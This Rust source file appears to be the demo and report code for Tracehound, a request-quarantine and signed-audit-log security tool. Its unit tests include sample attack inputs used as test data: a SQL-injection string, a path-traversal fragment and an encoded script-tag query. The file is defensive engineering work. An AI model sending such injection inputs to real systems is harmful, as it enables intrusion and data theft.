/// `host` and, with a body, `content-type`) and the parsed body. The attacks carry nothing
/// the policy redacts.
fn described(call: &Call, host: &str) -> Value {
    let (path, query) = match call.target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (call.target.as_str(), None),
    };
    let mut evidence = json!({"method": call.method(), "path": path});
    let mut headers = json!({"user-agent": call.user_agent, "host": host});
    if let Some(query) = query {
        evidence["query"] = Value::from(query);
    }
    if let Some(body) = &call.body {
        headers["content-type"] = Value::from("application/json");
        evidence["body"] = serde_json::from_slice(body)
            .unwrap_or_else(|_| Value::from(String::from_utf8_lossy(body).into_owned()));
    }
    evidence["headers"] = headers;
    evidence
}

/// `text` with one character of its record (`extra`) line replaced by another base64
/// character, so the bundle still parses and the change reaches verification.
fn tamper(text: &str) -> Option<String> {
    const RECORD_LINE: &str = "\nextra ";
    // Well inside the line, where every base64 character carries record bits.
    const OFFSET: usize = 8;
    let start = text.find(RECORD_LINE)? + RECORD_LINE.len();
    let line = text[start..].split('\n').next()?;
    let old = *line.as_bytes().get(OFFSET)?;
    if !old.is_ascii_alphanumeric() {
        return None;
    }
    let at = start + OFFSET;
    let mut tampered = text.to_owned();
    tampered.replace_range(at..=at, if old == b'A' { "B" } else { "A" });
    Some(tampered)
}

fn event_name(kind: &EventKind) -> &'static str {
    match kind {
        EventKind::ThreatDetected { .. } => "threat detected",
        EventKind::EvidenceQuarantined(_) => "evidence quarantined",
        EventKind::EvidenceEvicted { .. } => "evidence evicted",
        EventKind::EvidenceDropped { .. } => "evidence dropped",
        EventKind::EvidenceNeutralized { .. } => "evidence neutralized",
        EventKind::EvidencePurged { .. } => "evidence purged",
        EventKind::EvidenceReplaced { .. } => "evidence replaced",
        EventKind::EvidenceExpired { .. } => "evidence expired",
        EventKind::CheckpointSigned(_) => "checkpoint signed",
        EventKind::RateLimitExceeded { .. } => "rate limit exceeded",
        EventKind::InterceptFailed { .. } => "intercept failed",
        EventKind::EvidenceAnalysed(_) => "evidence analysed",
        EventKind::AnalysisEscalated { .. } => "analysis escalated",
        _ => "other",
    }
}

/// Waits (at most 30 s) until the hound pool has finished every job it accepted; false if it
/// had not by then.
fn wait_for_hounds(tracehound: &Tracehound) -> bool {
    let until = Instant::now() + Duration::from_secs(30);
    loop {
        let h = tracehound.snapshot().hound;
        let finished = h.analysed
            + h.refused
            + h.timeouts
            + h.crashes
            + h.sandbox_violations
            + h.protocol_violations
            + h.gone;
        if finished >= h.accepted {
            return true;
        }
        if Instant::now() >= until {
            return false;
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// Waits (at most 5 s) until every slot of the pool has checked its worker, and has one,
/// after this call began; false if some had not by then.
fn settle_hounds(tracehound: &Tracehound) -> bool {
    let before = tracehound.hound_workers();
    let until = Instant::now() + Duration::from_secs(5);
    loop {
        let now = tracehound.hound_workers();
        let settled = now
            .slots
            .iter()
            .zip(&before.slots)
            .all(|(now, before)| now.checks > before.checks && now.pid.is_some());
        if settled {
            return true;
        }
        if Instant::now() >= until {
            return false;
        }
        thread::sleep(Duration::from_millis(20));
    }
}

/// Every figure the report shows.
struct Results<'a> {
    addr: SocketAddr,
    mix: &'a Mix,
    traffic: &'a Traffic,
    http: HttpStats,
    verdicts: VerdictStats,
    snapshot: &'a Snapshot,
    /// Evidence held that verified intact.
    verified: usize,
    audit: &'a AuditDemo,
    events: &'a BTreeMap<&'static str, u64>,
    events_lost: u64,
    /// The hound analysis of the evidence the proof is for.
    analysis: Option<&'a Analysis>,
    /// Whether the pool finished its jobs before the report.
    hound_drained: bool,
    /// Whether every slot had checked its worker just before the report.
    hound_settled: bool,
    /// The pool's workers at report time, and those it lost.
    workers: &'a HoundWorkers,
}

fn report(results: &Results<'_>) {
    let Results {
        snapshot: snap,
        traffic,
        mix,
        ..
    } = results;
    let t = &traffic.tally;
    println!();
    println!(
        "Server  http://{}: axum behind TracehoundLayer ({SERVER_THREADS} worker threads), one \
         Tracehound on its default configuration",
        results.addr
    );
    println!(
        "  the demo plays a trusted proxy to simulate {} clients: it connects from 127.0.0.1, \
         which the layer trusts, and names each request's client in X-Forwarded-For",
        group(mix.clients as u64)
    );
    println!();
    println!(
        "{} requests over HTTP in {:.2} s: {} per second from {CLIENT_THREADS} keep-alive client \
         threads, {:.2} ms mean round trip",
        group(t.requests),
        traffic.elapsed.as_secs_f64(),
        group((t.requests as f64 / traffic.elapsed.as_secs_f64().max(1e-9)) as u64),
        t.round_trips.as_secs_f64() * 1e3 / t.requests.max(1) as f64,
    );
    println!(
        "  {:<22}{:>10}   GET /, GET /search, POST /api/cart, POST /login",
        "clean browsing",
        group(mix.clean)
    );
    println!(
        "  {:<22}{:>10}   {} clients hammering POST /api/quote",
        "floods",
        group(mix.flood),
        group(mix.flood_clients)
    );
    println!(
        "  {:<22}{:>10}   attacks {} ({} distinct, sent {ATTACK_REPEATS} times each), credential \
         stuffing {}, oversized upload {}, body nested {NESTING} deep {}",
        "signed WAF markings",
        group(mix.marked()),
        group(mix.attacks),
        group(mix.distinct_attacks),
        group(mix.bursts),
        group(mix.oversized),
        group(mix.too_deep),
    );
    let forged: Vec<String> = Forgery::ALL
        .iter()
        .map(|&forgery| {
            let count = mix.forged[forgery as usize];
            format!("{} {}", forgery.name(), group(count))
        })
        .collect();
    println!(
        "  {:<22}{:>10}   {}",
        "forged markings",
        group(mix.forged.iter().sum()),
        forged.join(", ")
    );
    println!();
    println!("HTTP statuses seen by the clients");
    for (name, count) in [
        ("200 OK", t.ok),
        ("403 Forbidden", t.forbidden),
        ("413 Payload Too Large", t.too_large),
        ("429 Too Many Requests", t.too_many),
        ("other", t.other),
    ] {
        println!("  {name:<26}{:>10}", group(count));
    }
    println!();
    let v = &results.verdicts;
    println!(
        "Verdicts  accepted {}   forged {}   stale {}   malformed {}",
        group(v.accepted),
        group(v.forged),
        group(v.stale),
        group(v.malformed),
    );
    let h = &results.http;
    println!(
        "HTTP layer  requests {}   rejected {}   panics {}   without a client key {}",
        group(h.requests),
        group(h.rejected),
        group(h.panics),
        group(h.missing_keys),
    );

    let o = &snap.outcomes;
    let q = &snap.quarantine;
    let r = &snap.rate_limit;
    let a = &snap.audit;
    println!();
    println!("Outcomes");
    for (name, count) in [
        ("clean", o.clean),
        ("rate limited", o.rate_limited),
        ("payload too large", o.payload_too_large),
        ("unencodable", o.unencodable),
        ("ignored (known threat)", o.ignored),
        ("quarantined", o.quarantined),
        ("dropped (lowest priority)", o.dropped),
        ("error", o.error),
    ] {
        println!("  {name:<26}{:>10}", group(count));
    }
    println!();
    println!(
        "Quarantine  {} / {} entries, {} / {} bytes (fill {:.0} %), {} verified intact",
        group(q.count as u64),
        group(q.max_count as u64),
        group(q.bytes as u64),
        group(q.max_bytes as u64),
        q.fill_ratio * 100.0,
        group(results.verified as u64),
    );
    println!(
        "  critical {}   high {}   medium {}   low {}",
        group(q.by_severity.critical as u64),
        group(q.by_severity.high as u64),
        group(q.by_severity.medium as u64),
        group(q.by_severity.low as u64),
    );
    println!();
    println!(
        "Rate limiter  {} sources tracked, {} blocked now, {} forgotten at the cap of {}",
        group(r.tracked_keys as u64),
        group(r.blocked_keys as u64),
        group(r.evicted_keys),
        group(r.max_keys as u64),
    );
    println!();
    print_hound(
        &snap.hound,
        results.workers,
        results.analysis,
        results.hound_drained,
        results.hound_settled,
    );
    println!();
    print_audit(a, results.audit);
    println!();
    let seen: u64 = results.events.values().sum();
    println!(
        "Events  {} received of {} published, {} lost to a full queue",
        group(seen),
        group(snap.events.published),
        group(results.events_lost),
    );
    for (name, count) in results.events {
        println!("  {name:<26}{:>10}", group(*count));
    }
}

fn print_hound(
    h: &HoundStats,
    workers: &HoundWorkers,
    analysis: Option<&Analysis>,
    drained: bool,
    settled: bool,
) {
    println!(
        "Hound pool  {} sandboxed workers; {} of {} quarantined evidence analysed{}",
        h.workers,
        group(h.analysed + h.refused),
        group(h.offered),
        if drained {
            ""
        } else {
            " (still running at report time)"
        },
    );
    println!(
        "  accepted {}   skipped (evicted first) {}   refused at the door {} (queue full)   too large {}",
        group(h.accepted),
        group(h.gone),
        group(h.exhausted),
        group(h.too_large),
    );
    println!(
        "  refused by worker {}   timeouts {}   crashes {}   sandbox kills {}   protocol violations {}",
        group(h.refused),
        group(h.timeouts),
        group(h.crashes),
        group(h.sandbox_violations),
        group(h.protocol_violations),
    );
    println!(
        "  spawns {}   respawns {}   rotations {}   job time mean {} µs, p99 {} µs",
        group(h.spawns),
        group(h.respawns),
        group(h.rotations),
        group(h.mean_job_micros),
        group(h.p99_job_micros),
    );
    let pids: Vec<String> = workers
        .slots
        .iter()
        .map(|slot| {
            slot.pid
                .map_or_else(|| "none".to_owned(), |pid| pid.to_string())
        })
        .collect();
    println!(
        "  live {} (pids {})   died while idle {}   other idle failures {}   workers lost {}",
        h.live,
        pids.join(", "),
        group(h.idle_deaths),
        group(h.idle_failures - h.idle_deaths),
        group(workers.lost.len() as u64),
    );
    for lost in &workers.lost {
        println!("    {}", lost_worker(lost));
    }
    if !settled {
        println!(
            "  (a slot had not checked its worker again before the report: a worker that died just before may be missing)"
        );
    }
    let Some(analysis) = analysis else {
        println!("  (the proven evidence was not analysed: the pool was busy when it arrived)");
        return;
    };
    println!(
        "  analysis of the proven evidence: job {}, {:?}",
        analysis.job, analysis.duration
    );
    match &analysis.outcome {
        HoundOutcome::Analysed(report) => {
            if let Some(digest) = analysis.digest {
                let leaf = analysis
                    .audit_leaf
                    .map_or_else(|| "none (log full)".to_owned(), |l| l.index.to_string());
                println!("    analysis digest {digest}, committed by audit leaf {leaf}");
            }
            for finding in &report.findings {
                let facts: Vec<String> = finding
                    .facts
                    .iter()
                    .filter(|f| !matches!(f.value, FactValue::Count(0) | FactValue::Flag(false)))
                    .map(|f| match &f.value {
                        FactValue::Count(n) => format!("{}={n}", f.name),
                        FactValue::Flag(b) => format!("{}={b}", f.name),
                        FactValue::Digest(d) => format!("{}={}", f.name, Digest::from(*d)),
                        FactValue::Label(l) => format!("{}={l}", f.name),
                    })
                    .collect();
                println!("    {}: {}", finding.analyzer, facts.join(" "));
            }
        }
        other => println!("    {other:?}"),
    }
}

/// One line on a lost worker, such as `worker pid 4242 (slot 0) killed by signal 9 while
/// idle`.
fn lost_worker(lost: &LostWorker) -> String {
    let when = lost.job.map_or_else(
        || "while idle".to_owned(),
        |job| format!("during job {job}"),
    );
    format!(
        "worker pid {} (slot {}) {} {when}",
        lost.pid,
        lost.slot,
        lost.cause.describe()
    )
}

fn print_audit(a: &AuditStats, demo: &AuditDemo) {
    let lifetime = if demo.temporary {
        "temporary: removed when the demo ends"
    } else {
        "kept"
    };
    println!(
        "Audit log  {} leaves, durable in {} ({lifetime})",
        group(a.size),
        demo.dir.display()
    );
    println!(
        "  epoch {}   size {}   durable size {}",
        a.epoch,
        group(a.size),
        group(a.durable_size)
    );
    println!("  root {}", a.root);
    let last = a.last_checkpoint_age.map_or_else(
        || "none yet".to_owned(),
        |age| format!("{:.2} s ago", age.as_secs_f64()),
    );
    println!(
        "  checkpoints signed {} (last {last})   append failures {}   lost {}   gaps {}",
        group(a.checkpoints),
        group(a.append_failures),
        group(a.lost),
        group(a.gaps),
    );
    let rec = &a.records;
    println!(
        "  quarantined {}   evicted {}   dropped {}   neutralized {}   purged {}   replaced {}   expired {}   analysed {}",
        group(rec.quarantined),
        group(rec.evicted),
        group(rec.dropped),
        group(rec.neutralized),
        group(rec.purged),
        group(rec.replaced),
        group(rec.expired),
        group(rec.analysed),
    );
    println!();
    println!(
        "Checkpoint signed on demand: a C2SP signed note, to ship off the host (SIEM, witness, WORM bucket)"
    );
    for line in demo.checkpoint.note().lines() {
        if line.is_empty() {
            println!();
        } else {
            println!("    {line}");
        }
    }
    println!("  verifier key  {}", demo.vkey);
    println!();

    let proof = &demo.proof;
    let verified = &proof.verified;
    println!(
        "Evidence proof  for the highest-severity evidence held: {} {}",
        proof.receipt.severity(),
        proof.receipt.signature()
    );
    println!(
        "  written to {} ({} bytes), which begins:",
        proof.path.display(),
        group(proof.bytes as u64)
    );
    for line in &proof.head {
        println!("    {line}");
    }
    println!(
        "  verified from the file with only the verifier key: `{}` record, leaf {} of {} under {}",
        verified.record.kind,
        group(verified.index),
        group(verified.checkpoint.size),
        verified.checkpoint.origin,
    );
    if proof.evidence_checked {
        println!("  the flagged request's canonical bytes hash to the record's evidence hash");
    } else {
        println!(
            "  the flagged request was not found again, so the evidence bytes were not checked"
        );
    }
    println!(
        "  one byte of the record line changed: rejected ({})",
        proof.tampered
    );
    println!("  a third party checks it with:");
    println!(
        "    tracehound verify-proof {} --key '{}'",
        shell_quoted(&proof.path),
        demo.vkey
    );
    if demo.temporary {
        println!(
            "  (the file is removed with the temporary directory; pass --audit-dir DIR to keep it)"
        );
    }
}

/// `path` as one shell word: bare when that is safe, else single-quoted.
fn shell_quoted(path: &Path) -> String {
    let text = path.display().to_string();
    let bare = |c: char| c.is_ascii_alphanumeric() || "/._-+=:,@%".contains(c);
    if !text.is_empty() && text.chars().all(bare) {
        text
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// `1234567` as `1,234,567`.
fn group(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digits_are_grouped() {
        assert_eq!(group(0), "0");
        assert_eq!(group(999), "999");
        assert_eq!(group(1000), "1,000");
        assert_eq!(group(1234567), "1,234,567");
    }

    #[test]
    fn tampering_changes_one_base64_character_of_the_record_line() {
        let text = "c2sp.org/tlog-proof@v1\nextra AAECAwQFBgcICQoL\nindex 3\n\nnote\n";
        let tampered = tamper(text).unwrap_or_default();
        assert_eq!(tampered.len(), text.len());
        let changed: Vec<usize> = (0..text.len())
            .filter(|&i| text.as_bytes()[i] != tampered.as_bytes()[i])
            .collect();
        assert_eq!(changed, [text.find("extra ").unwrap_or_default() + 6 + 8]);
        assert_eq!(tamper("c2sp.org/tlog-proof@v1\nindex 3\n"), None);
        assert_eq!(
            tamper("c2sp.org/tlog-proof@v1\nextra AQ==\nindex 3\n"),
            None
        );
    }

    #[test]
    fn paths_are_quoted_for_the_shell_when_needed() {
        assert_eq!(
            shell_quoted(Path::new("/tmp/a-b/c.tlog-proof")),
            "/tmp/a-b/c.tlog-proof"
        );
        assert_eq!(
            shell_quoted(Path::new("/tmp/it's here")),
            r"'/tmp/it'\''s here'"
        );
    }

    #[test]
    fn workload_is_deterministic_and_mixed() {
        let a = workload(7, 1);
        let b = workload(7, 1);
        assert_eq!(format!("{a:?}"), format!("{b:?}"));
        assert_ne!(format!("{a:?}"), format!("{:?}", workload(8, 1)));
        // Interleaved: the first thousand requests hold several kinds.
        let kinds: HashSet<_> = a[..1000].iter().map(std::mem::discriminant).collect();
        assert!(kinds.len() >= 4);
        // More distinct threats than the default quarantine holds, so it overflows.
        let mix = Mix::of(&a);
        assert!(mix.distinct_attacks + mix.bursts > 10_000, "{mix:?}");
    }

    #[test]
    fn payloads_in_a_query_are_percent_encoded() {
        assert_eq!(percent_encoded("a-b_c.d~e"), "a-b_c.d~e");
        assert_eq!(percent_encoded("' OR 1=1"), "%27%20OR%201%3D1");
        assert_eq!(percent_encoded("../etc"), "..%2Fetc");
    }

    #[test]
    fn the_evidence_of_a_query_attack_is_its_request_as_described() {
        let call = call(Request::Attack {
            pattern: 1,
            variant: 4,
            source: 0,
        });
        assert_eq!(call.method(), "GET");
        assert_eq!(call.path(), "/search");
        let evidence = described(&call, "127.0.0.1:8080");
        assert_eq!(evidence["path"], "/search");
        assert_eq!(evidence["headers"]["host"], "127.0.0.1:8080");
        assert!(evidence.get("body").is_none());
        let query = evidence["query"].as_str().unwrap_or_default();
        assert!(query.starts_with("q=%3Cscript%3E") && query.ends_with("&v=4"));
    }

    #[test]
    fn forged_verdicts_are_not_the_servers() {
        let key = |byte: u8| SignedVerdict::new(vec![byte; 32]);
        let (Ok(signer), Ok(forger)) = (key(1), key(2)) else {
            panic!("32-byte secrets are accepted");
        };
        let waf = Waf {
            signer: signer.clone(),
            forger,
        };
        let verdict = |forgery| {
            waf.verdict(&call(Request::Forged { forgery, n: 3 }))
                .unwrap_or_default()
        };
        let now = unix_now();
        let genuine = signer.sign("GET", "/search?q=deal3", now, "injection", "high");
        // Signed in the same second, the genuine verdict differs only by its signature.
        let prefix = |v: &str| v.split(",sig=").next().unwrap_or_default().to_owned();
        for forgery in [Forgery::WrongSecret, Forgery::Moved] {
            let forged = verdict(forgery);
            assert_ne!(forged, genuine);
            assert!(forged.starts_with("category=injection,severity=high,ts="));
        }
        assert_ne!(prefix(&verdict(Forgery::Stale)), prefix(&genuine));
        assert!(!verdict(Forgery::Garbled).contains("sig="));
        assert!(
            waf.verdict(&call(Request::Clean { source: 1, page: 0 }))
                .is_none()
        );
    }
}
